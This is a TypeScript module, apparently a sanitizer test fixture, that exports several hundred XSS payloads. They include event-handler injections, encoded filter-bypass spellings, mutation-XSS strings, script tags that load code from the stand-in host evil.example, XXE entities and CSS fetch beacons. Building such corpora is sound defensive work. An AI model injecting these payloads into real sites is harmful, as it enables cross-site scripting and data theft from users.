// Markup that would run, fetch or cover something, if it ever became markup.

export const RUN = "globalThis.hacked=1;alert(1)";
export const EVIL = "https://evil.example";
export const IMG = `<img src=x onerror=${RUN}>`;

/** Elements whose handler runs by itself, or at the first move of the pointer. */
const HANDLERS = [
  ...[
    "img src=x onerror",
    "img src=data:, onload",
    "image src=x onerror",
    "svg onload",
    "body onload",
  ],
  ...["details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "br onclick"],
  ...["textarea autofocus onfocus", "button autofocus onfocus", "x tabindex=1 autofocus onfocus"],
  ...["video src=x onerror", "video onloadstart", "audio src=x onerror", "audio oncanplay"],
  ...["video><source onerror", "video><track default onload", "picture><source onerror"],
  ...["marquee onstart", "marquee loop=1 onfinish", "object data=x onerror", "embed src=x onerror"],
  ...["iframe onload", "frameset onload", "style onload", "link rel=stylesheet href=x onerror"],
  ...[
    "script src=x onerror",
    "body onpageshow",
    "body onhashchange",
    "body onscroll",
    "dialog open oncancel",
  ],
  ...["div onpointerrawupdate", "div onmouseover", "div onanimationstart", "div ontransitionend"],
  ...["div popover onbeforetoggle", "div oncontentvisibilityautostatechange", "div onscrollend"],
  ...["svg><animate onbegin", "svg><set onbegin", "svg><image href=x onerror", "math><mi onclick"],
  ...[
    "form onformdata",
    "meter onmouseenter",
    "keygen autofocus onfocus",
    "isindex type=image src=1 onerror",
  ],
].map((opening) => `<${opening}="${RUN}">`);

/** The same element, written as filters do not expect it. */
const SPELLINGS = [
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<iMg sRc=x oNeRrOr=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\nsrc=x\nonerror=${RUN}>`,
  `<img src=x onerror=${RUN} `,
  `<img src=x onerror=${RUN}//`,
  `<<img src=x onerror=${RUN}>`,
  `<img src=x onerror='${RUN}'>`,
  `<img src=x onerror=\`${RUN}\`>`,
  `<img src="x" alt="a"onerror="${RUN}">`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x onerror=&#x61;&#x6c;&#x65;rt(1)>`,
  `<img src=x onerror=\\u0061lert(1)>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img src onerror /" '"= alt=${RUN}//">`,
  `<img title="a>" src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cimg src=x onerror=${RUN}%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `\\<img src=x onerror=${RUN}\\>`,
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `\u2039img src=x onerror=${RUN}\u203a`,
  `+ADw-img src=x onerror=${RUN}+AD4-`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
];

/** What swallows markup until its end comes, and then lets it out. */
const ENCLOSED = [
  ...[
    "title",
    "textarea",
    "style",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
  ],
  ...[
    "listing",
    "template",
    "select",
    "option",
    "script",
    "svg",
    "math",
    "p",
    "article",
    "section",
  ],
].flatMap((name) => [`</${name}>${IMG}`, `<${name}><p title="</${name}>${IMG}">`]);

/** Markup that reads otherwise once it was parsed, written out and parsed again. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<math><mtext><mglyph><style><img src=x></style>${IMG}</mglyph></mtext></math>`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><style><!--</style><p title="--></style>${IMG}">`,
  `<svg><foreignObject><math><mi><style></math>${IMG}</style></mi></math></foreignObject></svg>`,
  `<svg><desc><style><![CDATA[</style>${IMG}]]></style></desc></svg>`,
  `<svg><title><p>${IMG}</p></title></svg>`,
  `<svg><![CDATA[><image xlink:href="]]>${IMG}"></svg>`,
  `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<table><td><select><table><style><!--</style>${IMG}-->`,
  `<table><caption><form></table><form>${IMG}`,
  `<p><svg><p><style><g title="</style>${IMG}">`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${IMG}">`,
  `<a><b><a></b>${IMG}</a>`,
  `<form id=x><form><input name=attributes><input name=innerHTML></form>${IMG}`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<!--><${IMG.slice(1)}-->`,
  `<!--a--!>${IMG}`,
  `<!-- -- -->${IMG}<!-- -->`,
  `<![CDATA[<![CDATA[]]>${IMG}]]>`,
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><a/>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${EVIL}">]><x>&e;</x>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type=module>import "${EVIL}/a.js"</script>`,
  `<script type=importmap>{"imports":{"a":"${EVIL}/a.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<!--<script>--><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
];

/** Whatever fetches an address without being asked. */
const FETCHING = [
  ...[
    "img src",
    "img srcset",
    "img style=x lowsrc",
    "image src",
    "video poster",
    "video src",
    "audio src",
  ],
  ...[
    "iframe src",
    "frame src",
    "fencedframe src",
    "portal src",
    "object data",
    "embed src",
    "applet archive",
  ],
  ...["link rel=stylesheet href", "link rel=preload as=script href", "link rel=prefetch href"],
  ...["link rel=dns-prefetch href", "link rel=preconnect href", "link rel=modulepreload href"],
  ...[
    "link rel=manifest href",
    "link rel=icon href",
    "link rel=import href",
    "base href",
    "a ping",
  ],
  ...[
    "input type=image src",
    "form action",
    "button formaction",
    "body background",
    "table background",
  ],
  ...["track src", "bgsound src", "svg><use href", "svg><image xlink:href", "svg><feImage href"],
].map((opening) => `<${opening}="${EVIL}/f">`);
const STYLED = [
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<style>@import "${EVIL}/a.css";</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f)}*{font-family:x}</style>`,
  `<style>*{background:url(${EVIL}/b)}</style>`,
  `<div style="background:url(${EVIL}/x)">x</div>`,
  `<div style="background:image-set('${EVIL}/x' 1x)">x</div>`,
  `<div style="-moz-binding:url(${EVIL}/x)">x</div>`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">covers everything</div>`,
];

export const MARKUP: string[] = [
  ...HANDLERS,
  ...SPELLINGS,
  ...ENCLOSED,
  ...MUTATING,
  ...SCRIPTS,
  ...FETCHING,
  ...STYLED,
];
